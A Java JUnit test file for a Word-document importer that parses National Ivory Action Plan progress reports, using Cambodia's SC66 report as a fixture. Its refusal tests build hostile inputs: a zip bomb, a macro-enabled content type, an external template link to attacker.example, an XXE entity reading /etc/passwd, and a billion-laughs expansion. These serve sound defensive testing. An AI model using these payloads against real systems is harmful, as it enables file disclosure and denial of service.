package org.niaptracker.importing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.YearMonth;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.niaptracker.importing.ParsedReport.PartBEntry;
import org.niaptracker.importing.ParsedReport.PartCEntry;
import org.niaptracker.importing.ReportDocuments.Variant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Reading Word reports on the template: Cambodia's SC66 report and its variants, and the
 * documents the import refuses.
 */
class WordReportParserTest {

	private final WordReportParser parser = new WordReportParser();

	@Test
	void readsCambodiasSc66Report() {
		ParsedReport report = this.parser.parse(ReportDocuments.cambodiaSc66());
		assertThat(report.meetingCode()).isEqualTo("SC66");
		assertThat(report.partyName()).isEqualTo("CAMBODIA");
		assertThat(report.periodStart()).isEqualTo(YearMonth.of(2014, 11));
		assertThat(report.periodEnd()).isEqualTo(YearMonth.of(2015, 9));
		assertThat(report.preparedBy()).isEqualTo("Heng Kimchhay, National Ivory Action Plan focal point for Cambodia");
		assertThat(report.groupHeading()).isEqualTo("Parties of ‘secondary concern’ and ‘importance to watch’");
		assertThat(report.languageLine()).isEqualTo("(English only / únicamente en inglés / seulement en anglais)");
		assertThat(report.documentRef()).isEqualTo("SC66 Doc. 29");
		assertThat(report.annexRef()).isEqualTo("Annex 19");
		Map<String, List<String>> partA = ReportDocuments.readPartA();
		assertThat(report.synopsis()).isEqualTo(partA.get("synopsis"));
		assertThat(report.progressToDate()).isEqualTo(partA.get("progress-to-date"));
		assertThat(report.futureOutlook()).isEqualTo(partA.get("future-outlook"));
		assertThat(report.pillars()).containsEntry(1, "Legislation")
			.containsEntry(4, "Drivers and Prevention")
			.containsEntry(6, "Other")
			.hasSize(6);
		assertThat(report.partB()).extracting(PartBEntry::number)
			.containsExactlyInAnyOrder("1.1", "1.2", "2.1", "2.2", "2.3", "2.4", "2.5", "3.1", "3.2", "4.1", "5.1",
					"5.2", "6.1");
		PartBEntry twoOne = entryB(report, "2.1");
		assertThat(twoOne.title()).isEqualTo(
				"Establish a specialised Wildlife Crime Investigation unit within the FA to focus on combating illegal trade and trafficking of wildlife from within and outside of Cambodia");
		assertThat(twoOne.marked()).isTrue();
		assertThat(twoOne.column()).isEqualTo("On track");
		assertThat(entryB(report, "1.2").title())
			.isEqualTo("Issue a Ministerial proclamation on the management of ivory seizures");
		assertThat(entryB(report, "4.1").column()).isEqualTo("Substantially achieved");
		assertThat(entryB(report, "5.2").column()).isEqualTo("On track");
		assertThat(report.partC()).extracting(PartCEntry::number)
			.containsExactly("1.1", "1.2", "2.1", "2.2", "2.3", "2.4", "2.5", "3.1", "3.2", "4.1", "5.1", "5.2", "6.1");
		PartCEntry twoThree = entryC(report, "2.3");
		assertThat(twoThree.title())
			.isEqualTo("Enhance awareness and capacity of Customs and other relevant agencies of wildlife trafficking");
		assertThat(twoThree.points()).containsExactly(
				"No implementation to date, implementation is not due to begin until 2016",
				"We are currently seeking funding to implement this activity");
		assertThat(twoThree.pillar()).isEqualTo(2);
		assertThat(entryC(report, "5.2").evaluation()).isEqualTo("[PROGRESS RATING]");
		assertThat(entryC(report, "1.2").points()).hasSize(4);
		assertThat(entryC(report, "1.1").marked()).isTrue();
		assertThat(report.leftovers()).contains("CATEGORY 2: [Name]", "CATEGORY 5: [name]");
	}

	@ParameterizedTest
	@EnumSource(value = Variant.class, names = { "MERGED_CELLS", "BLANK_ROWS", "WORD_LISTS", "CAPITALS" })
	void readsTheVariantsAlike(Variant variant) {
		ParsedReport plain = this.parser.parse(ReportDocuments.cambodiaSc66());
		ParsedReport report = this.parser.parse(ReportDocuments.cambodiaSc66(variant));
		assertThat(report.partC()).extracting(PartCEntry::number, PartCEntry::title, PartCEntry::points)
			.isEqualTo(plain.partC()
				.stream()
				.map((e) -> org.assertj.core.groups.Tuple.tuple(e.number(), e.title(), e.points()))
				.toList());
		assertThat(report.partB()).extracting(PartBEntry::number, PartBEntry::title)
			.containsExactlyInAnyOrderElementsOf(plain.partB()
				.stream()
				.map((e) -> org.assertj.core.groups.Tuple.tuple(e.number(), e.title()))
				.toList());
		assertThat(report.pillars()).isEqualTo(plain.pillars());
		for (PartBEntry entry : report.partB()) {
			assertThat(WordReportParser.normal(entry.column()))
				.isEqualTo(WordReportParser.normal(entryB(plain, entry.number()).column()));
		}
	}

	@Test
	void aDocumentWithoutPartB() {
		ParsedReport report = this.parser.parse(ReportDocuments.cambodiaSc66(Variant.NO_PART_B));
		assertThat(report.hasPartB()).isFalse();
		assertThat(report.partC()).hasSize(13);
	}

	@Test
	void typedBulletsAreRemovedAndSplit() {
		assertThat(WordReportParser.points(List.of("• One", "\uF0B7 Two", "- Three • Four", "Five")))
			.containsExactly("One", "Two", "Three", "Four", "Five");
		assertThat(WordReportParser.points(List.of("No progress reported yet."))).isEmpty();
	}

	@Test
	void refusesWhatIsNotAWordDocument() {
		assertRefused(new byte[0], "importing.refused.empty");
		assertRefused("%PDF-1.7\n%âãÏÓ\n1 0 obj".getBytes(StandardCharsets.ISO_8859_1), "importing.refused.pdf");
		assertRefused("Party: CAMBODIA".getBytes(StandardCharsets.UTF_8), "importing.refused.notDocx");
		assertRefused(zip(Map.of("hello.txt", "hi".getBytes(StandardCharsets.UTF_8))), "importing.refused.notDocx");
	}

	@Test
	void refusesAZipBomb() {
		byte[] document = ReportDocuments.cambodiaSc66();
		byte[] bomb = withEntry(document, "word/media/padding.xml", new byte[50 * 1024 * 1024]);
		assertThat(bomb.length).isLessThan(1024 * 1024);
		assertRefused(bomb, "importing.refused.zipBomb");
	}

	@Test
	void refusesMacros() {
		byte[] document = ReportDocuments.cambodiaSc66();
		byte[] macros = replaceInEntry(document, "[Content_Types].xml", "wordprocessingml.document.main+xml",
				"vnd.ms-word.document.macroEnabled.main+xml");
		assertRefused(macros, "importing.refused.macros");
	}

	@Test
	void refusesExternalReferences() {
		byte[] document = ReportDocuments.cambodiaSc66();
		byte[] linked = replaceInEntry(document, "word/_rels/document.xml.rels", "</Relationships>",
				"<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
						+ " Target=\"http://attacker.example/template.dotm\" TargetMode=\"External\"/></Relationships>");
		assertRefused(linked, "importing.refused.external");
	}

	/**
	 * POI's XML parsers refuse any DOCTYPE, in the main document as in the package's own
	 * parts: an external entity, entity expansion ("billion laughs") and a DOCTYPE in the
	 * relationships or the content types are all refused, with their own message.
	 */
	@Test
	void refusesXmlEntities() {
		byte[] document = ReportDocuments.cambodiaSc66();
		byte[] external = replaceInEntry(document, "word/document.xml", "<w:document ",
				"<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document ");
		external = replaceInEntry(external, "word/document.xml", "Party: CAMBODIA", "Party: &x;");
		assertRefused(external, "importing.refused.xmlEntities");
		byte[] laughs = replaceInEntry(document, "word/document.xml", "<w:document ", BILLION_LAUGHS + "<w:document ");
		laughs = replaceInEntry(laughs, "word/document.xml", "Party: CAMBODIA", "Party: &lol9;");
		assertRefused(laughs, "importing.refused.xmlEntities");
		assertRefused(
				replaceInEntry(document, "word/_rels/document.xml.rels", "<Relationships ",
						"<!DOCTYPE Relationships [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Relationships "),
				"importing.refused.xmlEntities");
		assertRefused(replaceInEntry(document, "[Content_Types].xml", "<Types ", BILLION_LAUGHS + "<Types "),
				"importing.refused.xmlEntities");
	}

	/** Ten levels of ten: a billion "lol"s if expanded. */
	static final String BILLION_LAUGHS;

	static {
		StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
		for (int i = 1; i <= 9; i++) {
			dtd.append("<!ENTITY lol")
				.append(i)
				.append(" \"")
				.append(("&lol" + (i - 1) + ";").repeat(10))
				.append("\">");
		}
		BILLION_LAUGHS = dtd.append("]>").toString();
	}

	private void assertRefused(byte[] bytes, String key) {
		assertThatThrownBy(() -> this.parser.parse(bytes)).isInstanceOfSatisfying(ImportRefusedException.class,
				(ex) -> assertThat(ex.getMessageKey()).isEqualTo(key));
	}

	private static PartBEntry entryB(ParsedReport report, String number) {
		return report.partB().stream().filter((e) -> e.number().equals(number)).findFirst().orElseThrow();
	}

	private static PartCEntry entryC(ParsedReport report, String number) {
		return report.partC().stream().filter((e) -> e.number().equals(number)).findFirst().orElseThrow();
	}

	static byte[] zip(Map<String, byte[]> entries) {
		try (ByteArrayOutputStream out = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(out)) {
			for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
				zip.putNextEntry(new ZipEntry(entry.getKey()));
				zip.write(entry.getValue());
				zip.closeEntry();
			}
			zip.finish();
			return out.toByteArray();
		}
		catch (java.io.IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
	}

	static byte[] withEntry(byte[] document, String name, byte[] content) {
		Map<String, byte[]> entries = entries(document);
		entries.put(name, content);
		return zip(entries);
	}

	static byte[] replaceInEntry(byte[] document, String name, String from, String to) {
		Map<String, byte[]> entries = entries(document);
		String text = new String(entries.get(name), StandardCharsets.UTF_8);
		assertThat(text).contains(from);
		entries.put(name, text.replace(from, to).getBytes(StandardCharsets.UTF_8));
		return zip(entries);
	}

	private static Map<String, byte[]> entries(byte[] document) {
		Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
		try (ZipInputStream zip = new ZipInputStream(new java.io.ByteArrayInputStream(document))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				entries.put(entry.getName(), zip.readAllBytes());
			}
		}
		catch (java.io.IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
		return entries;
	}

}
